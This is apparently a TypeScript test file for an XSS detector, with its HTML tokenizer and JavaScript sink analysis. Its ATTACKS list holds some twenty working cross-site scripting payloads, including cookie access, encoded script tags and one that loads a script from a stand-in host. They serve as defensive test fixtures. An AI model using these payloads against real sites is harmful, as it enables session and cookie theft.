import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Sensitivity } from '../src/core/model.js';
import { xssDetector } from '../src/detect/detect-xss.js';
import { tokenizeHtml } from '../src/detect/html-tokenizer.js';
import fc from 'fast-check';
import { findSinks, jsInjection, lexJs, mayReachSink } from '../src/detect/js-context.js';
import { inspectValue, itFlagsAndSpares } from './helpers/detect-point.js';

function inspect(value: string, sensitivity: Sensitivity = 'default', location = 'query.q') {
  return inspectValue(xssDetector, value, { sensitivity, location, chain: [] });
}

const ATTACKS: Array<[string, string]> = [
  ['<script>alert(1)</script>', 'ST-XSS-001'],
  ['<ScRiPt src=//evil.example/x.js></ScRiPt>', 'ST-XSS-001'],
  ['<svg/onload=alert()>', 'ST-XSS-002'],
  ['"><img src=x onerror=alert(1)>', 'ST-XSS-002'],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 'ST-XSS-002'],
  ['<xss onbeforehellfreezes=aler\\u0074(1)>', 'ST-XSS-002'],
  ['<a href="jav&#x09;ascript:alert(1)">x</a>', 'ST-XSS-003'],
  ['<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK', 'ST-XSS-003'],
  ['javascript:alert(document.cookie)', 'ST-XSS-003'],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'ST-XSS-004'],
  ['<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', 'ST-XSS-003'],
  ["';alert(1)//", 'ST-XSS-005'],
  ['"-prompt`1`-"', 'ST-XSS-005'],
  ['[].sort.call`${alert}1337`', 'ST-XSS-005'],
  ['<p style="background:url(javascript:alert(1))">', 'ST-XSS-006'],
  ['{{constructor.constructor("alert(1)")()}}', 'ST-XSS-007'],
  ['" autofocus onfocus=alert(1) x="', 'ST-XSS-008'],
  ['%3Cscript%3Ealert(1)%3C/script%3E', 'ST-XSS-001'],
  ['\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', 'ST-XSS-001'],
  ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'ST-XSS-001'],
  ['window["alert"](document["cookie"])', 'ST-XSS-009'],
];

const BENIGN = [
  'JavaScript: The Good Parts',
  '<a href="https://example.com/docs">docs</a>',
  'I <3 you & a < b > c',
  '<b>bold</b> and <i>italic</i>, <br> line',
  'online=yes "quoted"',
  'Ask me about "onion=3" please',
  '<img src=\'cat.png\' alt="a cat">',
  'Use `eval()` sparingly; prefer `JSON.parse`',
  'Contact: John Smith <john.smith@example.com>',
  'if (a < b && c > d) { return x; }',
  'The alert was raised at 10:30 (see log)',
  "Don't forget: the meeting's at 3pm (room 'B')",
  'style: minimal; color: red',
  '```html\n<button onclick="save()">Save</button>\n```',
  'https://example.com/search?q=a+b&lang=en',
  'rating >= 4 && price < 100',
];

describe('xss detector', () => {
  it('keeps the sink-name and handler-probe paths behind the pre-filter', () => {
    const cases: Array<[string, string]> = [
      [' onfocus=', 'ST-XSS-008'],
      ['  onabcdefgh= ', 'ST-XSS-008'],
      ['top.location=evil', 'ST-XSS-009'],
      ['document.cookie', 'ST-XSS-009'],
      ['\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', 'ST-XSS-001'],
    ];
    for (const [value, rule] of cases) {
      assert.ok(
        inspect(value, 'high').some((h) => h.ruleId === rule),
        `${value} → ${rule}`,
      );
    }
    assert.deepEqual(inspect('session=abc; theme=dark; consent=1', 'high'), []);
  });
  itFlagsAndSpares({ attackType: 'xss', inspect: (v) => inspect(v), attacks: ATTACKS, benign: BENIGN });
  it('markdown code is reported only at high sensitivity', () => {
    const v = '```html\n<button onclick="save()">Save</button>\n```';
    assert.equal(inspect(v).length, 0);
    assert.ok(inspect(v, 'high').length > 0);
  });
  it('survives adversarial input', () => {
    assert.ok(Array.isArray(inspect('<'.repeat(1 << 20))));
    assert.ok(Array.isArray(inspect('<a '.repeat(200_000))));
    assert.ok(Array.isArray(inspect('('.repeat(100_000) + 'alert(1)' + ')'.repeat(100_000))));
    assert.ok(Array.isArray(inspect('"'.repeat(1 << 20))));
  });
});

describe('html tokenizer', () => {
  it('reads tags the way a browser does', () => {
    const toks = tokenizeHtml('x<svg/onload=alert(1)><a href = "y" title=z>t</a><!-- c -->');
    const tags = toks.filter((t) => t.type === 'start');
    assert.deepEqual(
      tags.map((t) => (t.type === 'start' ? [t.name, t.attrs.map((a) => `${a.name}=${a.value}`)] : [])),
      [
        ['svg', ['onload=alert(1)']],
        ['a', ['href=y', 'title=z']],
      ],
    );
    assert.ok(toks.some((t) => t.type === 'comment'));
  });
  it('keeps an unterminated tag (closed by the page)', () => {
    const [tok] = tokenizeHtml('<img src=x onerror=alert(1)');
    assert.equal(tok?.type, 'start');
    assert.equal(tok?.type === 'start' && tok.closed, false);
  });
});

describe('js context', () => {
  it('skips lexing only where findSinks could not find a sink', () => {
    assert.equal(mayReachSink('Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/125.0'), false);
    assert.equal(mayReachSink('x=alert(1)'), true);
    assert.equal(mayReachSink('[][`constructor`]'), true);
    // Values built from JavaScript punctuation and sink-adjacent words: whenever the pre-filter
    // says no, the lexer and findSinks must agree.
    const piece = fc.constantFrom(
      '(',
      ')',
      '[',
      ']',
      '.',
      '=',
      '`',
      "'",
      '"',
      ' ',
      'al',
      'ert',
      'win',
      'dow',
      'x',
      '1',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), (parts) => {
        const value = parts.join('');
        if (!mayReachSink(value)) assert.deepEqual(findSinks(lexJs(value)), []);
      }),
      { numRuns: 500 },
    );
  });
  it('finds string breakouts into sinks', () => {
    assert.deepEqual(
      jsInjection("';alert(1)//").map((f) => f.context),
      ["'"],
    );
    assert.equal(jsInjection("it's a nice day; isn't it").length, 0);
  });
});
